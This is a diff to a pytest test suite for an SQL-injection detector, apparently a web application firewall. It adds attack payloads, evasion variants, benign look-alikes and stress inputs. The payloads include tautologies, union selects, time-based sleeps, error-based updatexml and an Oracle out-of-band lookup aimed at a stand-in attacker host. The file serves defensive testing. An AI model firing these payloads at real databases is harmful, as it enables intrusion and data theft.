@@ -43,6 +43,47 @@ ATTACKS = [
     pytest.param("1 /*!50000union*/ /*!50000select*/ 1,2", id="versioned-comment"),
     pytest.param("'||(select pg_sleep(5))||'", id="concat-subquery"),
     pytest.param("1' and '1'='1", id="and-tautology"),
+    pytest.param("1 and 7639=(select 7639 from dual)", id="numeric-subquery-compare"),
+    pytest.param("' and updatexml(1,concat(0x7e,user()),1)-- -", id="updatexml"),
+    pytest.param("' or '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb--", id="postgres-jsonb"),
+    pytest.param("1 and 'x'::int=1", id="postgres-cast-error"),
+    pytest.param("' and utl_inaddr.get_host_address('x.attacker.example')='1", id="oracle-oob"),
+    pytest.param("1 and dbms_pipe.receive_message('a',5)=1", id="oracle-pipe-sleep"),
+    pytest.param("';select pg_sleep", id="pg-sleep-bare"),
+    pytest.param("1 union distinctrow select 1,2", id="union-distinctrow"),
+    pytest.param("') as x from users", id="alias-from"),
+    pytest.param("from `db`.`users` limit", id="from-backticks"),
+    pytest.param("1) when 234 then", id="close-paren-when"),
+    pytest.param("(case when 1=1 then 1 else 0 end)", id="case-when"),
+    pytest.param("id'is not null", id="quote-glued-operator"),
+    pytest.param("user'collate nocase", id="collate"),
+    pytest.param("admin@example.com';", id="quote-semicolon"),
+    pytest.param("@v:=(select user())", id="mysql-assignment"),
+    pytest.param("select @@version", id="system-variable"),
+    pytest.param("tempdb", id="mssql-tempdb"),
+    pytest.param("4294967296", id="integer-overflow"),
+    pytest.param("<=>", id="null-safe-equal-probe"),
+    pytest.param("rlike", id="rlike-probe"),
+    pytest.param("in (2147483647,-1)", id="in-list-probe"),
+    pytest.param("concat(", id="unclosed-function"),
+]
+
+# Attacks whose shape an evasion changes (a glued quote, a value that must be whole): blocked
+# as sent and URL-encoded.
+SHAPED_ATTACKS = [
+    pytest.param("x\u2019 or \u20181\u2019=\u20181", id="curly-quotes"),
+    pytest.param("1 \u0301or \u03011\u0301=\u03011", id="combining-accent-quotes"),
+    pytest.param("\\'or'1", id="backslash-quote"),
+    pytest.param("x'or'x", id="glued-or"),
+    pytest.param("x'|email", id="glued-bitwise"),
+    pytest.param("user/?(", id="function-probe-punctuation"),
+    pytest.param("||", id="bare-or-operator"),
+    pytest.param(">>", id="bare-shift-operator"),
+    pytest.param("42 like 42", id="word-tautology"),
+    pytest.param("2.2250738585072011e-308", id="float-parse-probe"),
+    pytest.param("1.e(ascii)", id="scientific-notation"),
+    pytest.param("` as `edit_user_id` from", id="backtick-alias"),
+    pytest.param("starts_with(password,'a')::int", id="postgres-call-cast"),
 ]
 
 BENIGN = [
@@ -66,6 +107,27 @@ BENIGN = [
     pytest.param("He said 'yes' or 'no'", id="quoted-choices"),
     pytest.param("Sleep well (8 hours at least)", id="sleep-prose"),
     pytest.param("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB", id="data-uri"),
+    pytest.param("O\u2019Brien and D\u2019Angelo", id="curly-apostrophes"),
+    pytest.param("Workers\u2019 union", id="curly-union-prose"),
+    pytest.param("Select items from the list below", id="select-items-prose"),
+    pytest.param("Select all items from the list", id="select-all-prose"),
+    pytest.param("From home where possible", id="from-where-prose"),
+    pytest.param("In case when it rains, then we stay", id="case-when-prose"),
+    pytest.param("'Or' is a conjunction", id="quoted-or"),
+    pytest.param("'Like' button", id="quoted-like"),
+    pytest.param("Released in 2019 as Rust from Mozilla", id="as-from-prose"),
+    pytest.param("2019 as rust from mozilla", id="number-as-from-prose"),
+    pytest.param("Users' is not working", id="possessive-is-not"),
+    pytest.param("Date (", id="word-paren"),
+    pytest.param("4 or 5 is fine", id="numbers-or-prose"),
+    pytest.param("2 and 2 is 4", id="arithmetic-prose"),
+    pytest.param("Run `ls` as `root` from the shell", id="markdown-backticks"),
+    pytest.param("Use std::string or Vec::new()", id="code-double-colon"),
+    pytest.param("fe80::1", id="ipv6"),
+    pytest.param("print('hi');", id="code-call"),
+    pytest.param('{"a": 1, "b": [1, 2]}', id="json-text"),
+    pytest.param("4294967295", id="large-number"),
+    pytest.param("x >= 5", id="comparison-text"),
 ]
 
 
@@ -120,6 +182,39 @@ def test_attack_blocks_at_paranoia_1(attack: str, evasion: str) -> None:
     assert _blocks(_evasions(attack)[evasion]), _evasions(attack)[evasion]
 
 
+@pytest.mark.parametrize("attack", SHAPED_ATTACKS)
+def test_shaped_attack_blocks(attack: str) -> None:
+    assert _blocks(attack), attack
+    assert _blocks(urllib.parse.quote(attack, safe="")), attack
+
+
+@pytest.mark.parametrize(
+    ("text", "kind"),
+    [
+        pytest.param("pay=AND 7639=(", "form_name", id="encoded-pair-in-name"),
+        pytest.param("q=1' or '1'='1", "query_name", id="encoded-pair-query-name"),
+        pytest.param('<?xml version="1.0"?><r><a p="x\' or 1=1--"/></r>', "body", id="xml-attr"),
+        pytest.param("<r><q>1 union select null,@@version</q></r>", "body", id="xml-text-node"),
+        pytest.param("/api/items/1 or 1=1--", "path", id="path-segment"),
+    ],
+)
+def test_hidden_parts_are_inspected(text: str, kind: str) -> None:
+    matches = detect_sqli(Normalized(text), Location(kind), 1)  # type: ignore[arg-type]
+    assert sum(match.severity for match in matches) >= Severity.CRITICAL
+
+
+@pytest.mark.parametrize(
+    ("text", "kind"),
+    [
+        pytest.param("utm=spring&ref=mail", "query_name", id="plain-pair"),
+        pytest.param("<r><n a=\"O'Brien\">Workers' union</n></r>", "body", id="xml-prose"),
+        pytest.param("/api/users/o'brien/orders", "path", id="path-apostrophe"),
+    ],
+)
+def test_hidden_benign_parts_are_silent(text: str, kind: str) -> None:
+    assert detect_sqli(Normalized(text), Location(kind), 1) == []  # type: ignore[arg-type]
+
+
 @pytest.mark.parametrize("text", BENIGN)
 def test_benign_is_silent_at_paranoia_1(text: str) -> None:
     assert _matches(text) == []
@@ -138,6 +233,14 @@ def test_benign_is_silent_at_paranoia_1(text: str) -> None:
         pytest.param("x' or 1=1", "sqli-tautology", id="tautology"),
         pytest.param("x' or 1=1", "sqli-fingerprint", id="fingerprint"),
         pytest.param("group_concat(name)", "sqli-sql-function", id="sql-function"),
+        pytest.param("abs(", "sqli-function-probe", id="function-probe"),
+        pytest.param("<=>", "sqli-operator-probe", id="operator-probe"),
+        pytest.param("'a'::int", "sqli-postgres-operator", id="postgres-operator"),
+        pytest.param(") as c from", "sqli-clause-fragment", id="clause-fragment"),
+        pytest.param("x'is not null", "sqli-quote-operator", id="quote-operator"),
+        pytest.param("4294967296", "sqli-overflow-probe", id="overflow-probe"),
+        pytest.param("@a:=1", "sqli-mysql-quirk", id="mysql-quirk"),
+        pytest.param("utl_http.request('x')", "sqli-out-of-band", id="out-of-band"),
     ],
 )
 def test_rule_ids(text: str, rule: str) -> None:
@@ -161,6 +264,7 @@ def test_match_fields() -> None:
         pytest.param("it' union", "sqli-quote-syntax", 2, id="quote-syntax"),
         pytest.param("select name from users where", "sqli-keyword-density", 3, id="density"),
         pytest.param("abc'--", "sqli-trailing-comment", 3, id="trailing-comment"),
+        pytest.param(">=", "sqli-comparison-probe", 2, id="comparison-probe"),
     ],
 )
 def test_higher_paranoia_rules(text: str, rule: str, level: int) -> None:
@@ -209,6 +313,9 @@ def test_sql_alphabet_never_raises(parts: list[str]) -> None:
         pytest.param("a" * 65536, id="one-word"),
         pytest.param("' or 1=1 " * 7281, id="repeated-attack"),
         pytest.param("sleep(" * 10922, id="function-openers"),
+        pytest.param("/**/" * 16384, id="closed-comments"),
+        pytest.param("-- a\n" * 13107, id="line-comments"),
+        pytest.param('<a b="1">x</a>' * 4681, id="markup"),
     ],
 )
 def test_large_adversarial_input_completes(adversarial: str) -> None:
